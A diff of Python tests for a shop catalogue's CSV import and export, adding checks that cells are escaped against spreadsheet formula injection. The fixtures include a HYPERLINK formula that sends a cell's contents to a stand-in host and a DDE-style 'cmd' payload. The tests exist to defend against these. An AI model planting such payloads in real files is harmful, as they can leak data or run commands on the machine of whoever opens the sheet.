@@ -8,6 +8,7 @@ import io
 import pytest
 import sqlalchemy as sa
 
+from mall import csvsafe
 from mall.catalog import csv_io
 from mall.catalog.models import (
     Category,
@@ -222,13 +223,15 @@ def test_a_product_made_in_the_back_office_round_trips(in_a):
 
 
 def test_products_are_updated_by_handle(in_a):
-    run(good_file())
+    first = shirt_rows()
+    first[1]["stock"] = "0"  # a variant holding stock is not removed by an import
+    run(csv_bytes(*first))
     rows = shirt_rows(price="11.00", title="Linen shirt II")
     rows[1]["title"] = ""  # later rows may leave product columns empty
     errors, result = run(csv_bytes(rows[0]))  # the M variant is left out: removed
     assert errors == []
     assert (result.created, result.updated) == (0, 1)
-    shirt = products()[1]
+    (shirt,) = products()
     assert shirt.title == "Linen shirt II"
     assert [(v.sku, v.price) for v in shirt.variants] == [("LS-S", 1100)]
     assert db.session.scalar(sa.select(Variant).where(Variant.sku == "LS-M")) is None
@@ -313,12 +316,12 @@ BAD_FILES = {
     "unknown category": (csv_bytes(*shirt_rows(category="toys")), (2, "category")),
     "option value missing": (csv_bytes(*bad(shirt_rows(), option1_value="")), (3, "option1_value")),
     "same option twice": (csv_bytes(*bad(shirt_rows(), option1_value="S")), (3, "option1_value")),
-    "value of an unnamed option": (csv_bytes(ebook_row(option2_value="Red")), (2, "option2_value")),
+    "value of an unnamed option": (csv_bytes(ebook_row(option2_value="Red")), (2, "option2_name")),
     "two variants without options": (
         csv_bytes(ebook_row(), ebook_row(sku="FG-2")),
         (3, "option1_value"),
     ),
-    "product column differs": (csv_bytes(*bad(shirt_rows(), title="Other")), (3, "title")),
+    "product column differs": (csv_bytes(*bad(shirt_rows(), title="Other")), (2, "title")),
     "bad handle": (csv_bytes(ebook_row(handle="Field Guide")), (2, "handle")),
     "handle missing": (csv_bytes(ebook_row(handle="")), (2, "handle")),
     "title missing": (csv_bytes(ebook_row(title="")), (2, "title")),
@@ -383,3 +386,62 @@ def test_the_same_sku_and_handle_in_another_shop_are_fine(in_a, shop_b):
         (theirs,) = products()
         assert theirs.title == "B's guide"
         assert theirs.variants[0].stock_quantity == -3
+
+
+# ---------------------------------------------------------------- formula injection (issue 8.6)
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Open")'
+
+
+def test_cells_that_would_run_as_formulas_are_quoted_on_export(in_a):
+    rows = [
+        ebook_row(title=FORMULA, description="- one\n- two", tags="@risky;fine", stock="-3"),
+        ebook_row(handle="plus", sku="P-1", title="+1 offer", description="\tindented"),
+        ebook_row(handle="ret", sku="R-1", title="Ret", description="\rcr", tags="''=quoted"),
+        ebook_row(handle="minus", sku="M-1", title="-1", description="-2+3+cmd|' /C calc'!A0"),
+    ]
+    errors, _ = run(csv_bytes(*rows))
+    assert errors == []
+    data = export()
+    exported = csv.DictReader(io.StringIO(data.decode(), newline=""))
+    by_handle = {row["handle"]: row for row in exported}
+    guide = by_handle["field-guide"]
+    assert guide["title"] == "'" + FORMULA
+    assert (guide["description"], guide["tags"]) == ("'- one\n- two", "'@risky;fine")
+    assert (guide["stock"], guide["price"]) == ("-3", "4.00")  # numbers stay numbers
+    plus, ret = by_handle["plus"], by_handle["ret"]
+    assert (plus["title"], plus["description"]) == ("'+1 offer", "'\tindented")
+    assert (ret["description"], ret["tags"]) == ("'\rcr", "''=quoted")
+    assert by_handle["minus"]["title"] == "-1"  # a plain number runs nothing
+    assert by_handle["minus"]["description"] == "'-2+3+cmd|' /C calc'!A0"
+    for row in csv.reader(io.StringIO(data.decode(), newline="")):  # as a spreadsheet reads it
+        for cell in row:
+            assert not cell or cell[0] not in "=+@\t\r", cell
+            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
+
+    # ... and read back as typed: export -> import -> export is byte-identical.
+    again, result = run(data)
+    assert again == [] and result.unchanged == 4 and result.updated == 0
+    assert export() == data
+    titles = {p.slug: (p.title, p.description_md, p.tags) for p in products()}
+    assert titles["field-guide"] == (FORMULA, "- one\n- two", ["@risky", "fine"])
+    assert titles["ret"][1:] == ("\rcr", ["'=quoted"])
+
+
+def test_a_quoted_cell_from_a_spreadsheet_is_read_without_its_quote(in_a):
+    errors, _ = run(csv_bytes(ebook_row(title="'=1+1", description="'- a list")))
+    assert errors == []
+    (guide,) = products()
+    assert (guide.title, guide.description_md) == ("=1+1", "- a list")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "plain", "=1", "'=1", "''=1", "'", "'plain", "-", "-5", "-5.50", "-5e3", "+5", "@", "\t",
+     "\r\n", "'\t", "5-", "=", "'''", "-0.5.5", "--5", "١٢", "\uff1d1"],
+)  # fmt: skip
+def test_escaping_is_undone_exactly(text):
+    escaped = csvsafe.escape_cell(text)
+    assert csvsafe.unescape_cell(escaped) == text
+    assert not escaped or escaped[0] not in "=+@\t\r"
+    assert not escaped.startswith("-") or escaped in ("-5", "-5.50")
